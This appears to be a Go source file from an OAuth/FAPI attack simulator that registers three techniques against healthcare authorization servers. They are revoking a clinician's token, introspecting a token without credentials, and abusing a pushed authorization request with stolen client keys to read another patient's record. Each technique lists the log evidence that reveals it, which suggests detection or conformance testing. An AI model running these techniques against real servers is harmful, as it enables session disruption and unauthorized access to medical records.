package attacker

import (
	"context"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

var _ = register("K-12", Technique{
	Variant: "revocation",
	Title:   "A token is revoked by somebody who only names the client",
	Story: "Many servers authenticate clients at the token endpoint and forget the others. The thief found a clinician's token and has it revoked in the " +
		"EHR's name, which is public: she is thrown out in the middle of her work.",
	Reads:    []string{"RFC 7009 s2.1", "FAPI 2.0 SP 5.3.2.1-6"},
	Evidence: "A revocation without client authentication, and then refusals for a token whose session goes on.",
	Needs:    []event.Vantage{event.APILog},
	Run: func(ctx context.Context, g Ground) error {
		a, err := newApp(ctx, g, fapi.Credentials{ClientID: g.Target().ClientID})
		if err != nil {
			return err
		}
		return a.sayToken(ctx, a.meta.RevocationEndpoint)
	},
})

var _ = register("K-12/introspection", Technique{
	Variant: "introspection",
	Title:   "Somebody who is nobody asks what a token says",
	Story: "The thief found a token, and asks the authorization server whose it is and whether it still works, without showing any credentials at " +
		"all.",
	Reads:    []string{"RFC 7662 s2.1, s4"},
	Evidence: "Introspection without credentials, from an address of no API.",
	Needs:    []event.Vantage{event.APILog},
	Run: func(ctx context.Context, g Ground) error {
		a, err := newApp(ctx, g, noCredentials)
		if err != nil {
			return err
		}
		return a.sayToken(ctx, a.meta.IntrospectionEndpoint)
	},
})

var _ = register("K-12/par", Technique{
	Variant: "pushed-request",
	Title:   "A request is pushed by somebody who only names the client",
	Story: "The thief pushes an authorization request in the EHR's name, with a challenge whose verifier he knows, and lures a clinician to it. When she has " +
		"signed in, he redeems her code with the EHR's keys, which he has from a backup.",
	Reads:    []string{"RFC 9126 s2, s2.1", "FAPI 2.0 SP 5.3.2.2-4"},
	Evidence: "A pushed request without client authentication; a code for a request the client's own log does not have.",
	Needs:    []event.Vantage{event.FrontHeld}, Has: []event.Asset{event.ClientKey, event.DPoPKey}, Against: []Trait{Pushed},
	Run: func(ctx context.Context, g Ground) error {
		a, err := victimsApp(ctx, g)
		if err != nil {
			return err
		}
		nobody, err := newApp(ctx, g, fapi.Credentials{ClientID: a.creds.ClientID, RedirectURI: a.creds.RedirectURI})
		if err != nil {
			return err
		}
		nobody.key = a.key // the code will be bound to it
		z, err := nobody.authorize(ctx, "openid user/*.rs", g.Target().FHIRBase, nil)
		if err != nil {
			return err
		}
		code, err := a.lure(z)
		if err != nil {
			return err
		}
		t, err := a.redeem(ctx, code, z, g.Target().FHIRBase)
		if err != nil {
			return err
		}
		_, err = a.read(ctx, record(g, stranger(g)), t)
		return err
	},
})
